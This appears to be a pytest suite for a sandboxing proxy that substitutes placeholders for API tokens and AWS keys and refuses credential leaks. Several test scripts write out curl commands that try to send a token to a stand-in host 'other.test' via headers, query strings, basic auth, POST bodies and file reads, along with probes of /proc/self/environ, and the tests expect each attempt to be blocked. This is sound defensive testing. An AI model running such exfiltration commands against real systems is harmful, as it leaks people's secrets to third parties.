"""An API that wants a token works while the command holds none; the same token elsewhere is refused and recorded."""

from __future__ import annotations

import base64
import json
import os
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

TOKEN = "ghp_0123456789abcdefABCDEF0123456789"


@pytest.fixture(autouse=True)
def _machine() -> None:
    if sys.platform != "linux" or shutil.which("bwrap") is None:
        pytest.skip("needs Linux with bubblewrap")


def bearer(handler: Any) -> None:
    """Wants the token, and tells what it got."""
    got = handler.headers.get("Authorization", "")
    body = json.dumps({"echo": got, "path": handler.path, "cookie": handler.headers.get("Cookie")}).encode()
    handler.send_response(200 if TOKEN in got or TOKEN in handler.path else 401)
    handler.send_header("Content-Length", str(len(body)))
    handler.send_header("X-Echo", got)
    handler.end_headers()
    handler.wfile.write(body)


def options(server: Any, *more: str, name: str = "gh", source: str = 'env = "API_TOKEN"') -> tuple[str, ...]:
    keys = ", ".join((source, f'hosts = ["api.test:{server.port}"]', *more))
    return ("-c", f"credentials.{name}={{{keys}}}", "--allow", f"api.test:{server.port}")


def whole(server: Any) -> list[Any]:
    """What a server got with its body. The head of a request may be there before the body was looked at; that body is
    cut then, and no placeholder is in it."""
    for each in server.seen:
        assert b"ghp_" not in each[3]
    return [each for each in server.seen if len(each[3]) == int(each[2].get("Content-Length", 0))]


def everything(run: Any) -> bytes:
    """All that was kept of the runs, blobs and all."""
    found = b""
    for folder, _, names in os.walk(run.home):
        for name in names:
            if name != "ca.key":
                found += Path(folder, name).read_bytes()
    return found


def test_a_token_that_the_command_never_holds(run: Any, start: Any) -> None:
    server = start.server("api.test", answer=bearer)
    script = (
        "env | grep API_TOKEN; cat /proc/self/environ | tr '\\0' '\\n' | grep -c API_TOKEN; "
        f'curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://api.test:{server.port}/x'
    )
    ran = run(*options(server), "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
    assert "HTTP/1.1 200 " in ran.output, ran.output + ran.err
    assert server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"
    # neither in what it sees, nor in what the server echoes, nor in any record
    assert TOKEN not in ran.output and TOKEN not in ran.err and TOKEN not in json.dumps(ran.document)
    assert "--pass-env" not in ran.err  # nobody is told to hand over what a placeholder stands for
    inside = ran.output.split("API_TOKEN=")[1].split("\n")[0]
    assert inside.startswith("ghp_") and len(inside) == len(TOKEN)
    assert f'"echo": "Bearer {inside}"' in ran.output
    kept = everything(run)
    assert TOKEN.encode() not in kept
    assert b'"credential_used"' in kept and b'"credential":"gh"' in kept.replace(b": ", b":")


def test_the_token_sent_to_another_host(run: Any, start: Any) -> None:
    """Refused there and recorded, be it what stands for it or, from elsewhere, the value itself."""
    server = start.server("api.test", answer=bearer)
    other = start.server("other.test")
    there = f"https://other.test:{other.port}"
    run.workspace.joinpath("found").write_text(TOKEN)
    script = (
        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X-A: $API_TOKEN" {there}/1; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " "{there}/2?a=$API_TOKEN"; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " -u "me:$API_TOKEN" {there}/3; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X-A: $(cat found)" {there}/4; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " -d "a=$API_TOKEN" {there}/5; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " {there}/6'
    )
    allow = ("--allow", f'{{host = "other.test:{other.port}", paths = ["/**"]}}')
    ran = run(*options(server), *allow, "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
    assert ran.output.split("curl:")[0].startswith("403 403 403 403 "), ran.output
    assert ran.output.rstrip().endswith("200")
    assert ran.reasons == ["credential_leak"] * 5
    assert [each[1] for each in whole(other)] == ["/6"]
    assert all("gh" in refusal["message"] for refusal in ran.document["refusals"])
    assert TOKEN not in json.dumps(ran.document) and TOKEN.encode() not in everything(run)


def test_plain_http_carries_no_credential(run: Any, start: Any) -> None:
    server = start.server("api.test", answer=bearer)
    plain = start.server("api.test", plain=True)
    script = f'curl -sS -i -H "Authorization: Bearer $API_TOKEN" http://other.test:{plain.port}/'
    ran = run(
        *options(server), "--allow", f"other.test:{plain.port}", "--", "sh", "-c", script, env={"API_TOKEN": TOKEN}
    )
    assert "HTTP/1.1 403 " in ran.output and ran.reasons == ["credential_leak"]
    assert plain.seen == []


def test_basic_query_cookie_and_another_header(run: Any, start: Any) -> None:
    server = start.server("api.test")
    there = f"https://api.test:{server.port}"
    places = {"BASIC": "basic", "QUERY": "query", "COOKIE": "cookie", "HEADER": "header"}
    names = {"QUERY": "key", "COOKIE": "sid", "HEADER": "X-Api-Key"}
    tokens = {name: f"{name}{TOKEN}" for name in places}
    given: list[str] = []
    for name, place in places.items():
        more = f', name = "{names[name]}"' if name in names else ""
        table = f'{{env = "{name}", hosts = ["api.test:{server.port}"], place = "{place}"{more}}}'
        given += ["-c", f"credentials.{name}={table}"]
    script = "; ".join(
        f"curl -sS -o /dev/null {words}"
        for words in (
            f'-u "me:$BASIC" {there}/',
            f'"{there}/?key=$QUERY"',
            f'-b "a=b; sid=$COOKIE" {there}/',
            f'-H "X-Api-Key: $HEADER" {there}/',
        )
    )
    ran = run(*given, "--allow", f"api.test:{server.port}", "--", "sh", "-c", script, env=tokens)
    assert ran.status == 0 and len(server.seen) == 4, ran.output + ran.err
    basic, query, cookie, header = server.seen
    assert base64.b64decode(basic[2]["Authorization"].split()[1]).decode() == f"me:{tokens['BASIC']}"
    assert query[1] == f"/?key={tokens['QUERY']}"
    assert cookie[2]["Cookie"] == f"a=b; sid={tokens['COOKIE']}"
    assert header[2]["X-Api-Key"] == tokens["HEADER"]


def test_a_file_that_holds_one_cannot_be_read_inside(run: Any, start: Any) -> None:
    server = start.server("api.test", answer=bearer)
    file = run.workspace / "token"
    file.write_text(TOKEN)
    script = f'cat {file}; curl -sS -H "Authorization: Bearer $T" https://api.test:{server.port}/'
    given = options(server, 'variable = "T"', source=f'file = "{file}"')
    ran = run(*given, "--", "sh", "-c", script)
    assert TOKEN not in ran.output and server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"


def test_a_source_that_fails_starts_nothing(run: Any, start: Any) -> None:
    server = start.server("api.test")
    with pytest.raises(AssertionError, match=r"credentials\.gh: the variable API_TOKEN is not set"):
        run(*options(server), "--", "touch", "started")
    assert not (run.workspace / "started").exists()


def test_a_rule_and_a_credential_hold_together(run: Any, start: Any) -> None:
    """Read only, with a token that is not there."""
    server = start.server("api.test", answer=bearer)
    there = f"https://api.test:{server.port}/"
    script = f'curl -sS -H "Authorization: Bearer $API_TOKEN" {there}; curl -sS -X DELETE {there}'
    rule = ("--allow", f'{{host = "api.test:{server.port}", methods = ["GET"]}}')
    ran = run(*options(server)[:2], *rule, "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
    assert ran.reasons == ["method_not_allowed"]
    assert [each[0] for each in server.seen] == ["GET"]


def test_a_rule_that_names_a_credential(run: Any, start: Any) -> None:
    """It goes into what such a rule allows, and at the same host into nothing else: head or body."""
    server = start.server("api.test", answer=bearer)
    there = f"https://api.test:{server.port}"
    ask = 'curl -sS -o /dev/null -w "%{http_code} " -H "Authorization: Bearer $API_TOKEN"'
    script = (
        f'{ask} {there}/in/1; {ask} {there}/out/2; {ask} -X POST {there}/in/3; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " -d "a=$API_TOKEN" {there}/out/4; '
        f'curl -sS -o /dev/null -w "%{{http_code}} " -d "a=b" {there}/out/5'
    )
    host = f"api.test:{server.port}"
    ran = run(
        "-c", 'credentials.gh={env = "API_TOKEN"}',
        "--allow", f'{{host = "{host}", methods = ["GET"], paths = ["/in/*"], credential = "gh"}}',
        "--allow", f'{{host = "{host}", methods = ["GET", "POST"]}}',
        "--", "sh", "-c", script, env={"API_TOKEN": TOKEN},
    )  # fmt: skip
    assert ran.output.startswith("200 403 403 ") and ran.output.rstrip().endswith("401"), ran.output + ran.err
    assert [each[1] for each in whole(server)] == ["/in/1", "/out/5"]
    assert server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"
    assert ran.reasons == ["credential_leak"] * 3
    assert "allowed by no rule that names it" in ran.document["refusals"][0]["message"]
    assert TOKEN.encode() not in everything(run)


def test_a_request_signed_with_a_placeholder_is_signed_anew(run: Any, start: Any) -> None:
    """AWS Signature Version 4, by a real client (curl): the server sees the key's signature, the command has no key."""
    from doorward.proxy.inspection.sigv4 import signed_with

    secret = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"
    server = start.server("api.test")
    there = f"https://api.test:{server.port}/bucket/key?a=b"
    script = f'curl -sS -o /dev/null --aws-sigv4 "aws:amz:eu:iam" --user "AKIDEXAMPLE:$SECRET" -d body "{there}"'
    given = options(server, 'place = "aws"', source='env = "SECRET"')
    ran = run(*given, "--", "sh", "-c", script, env={"SECRET": secret})
    assert ran.status == 0, ran.output + ran.err
    method, target, headers, body = server.seen[0]
    sent = [(name.lower(), value) for name, value in headers.items()]
    assert signed_with(secret, method, target, sent, body) is not None, headers
    assert secret.encode() not in everything(run)
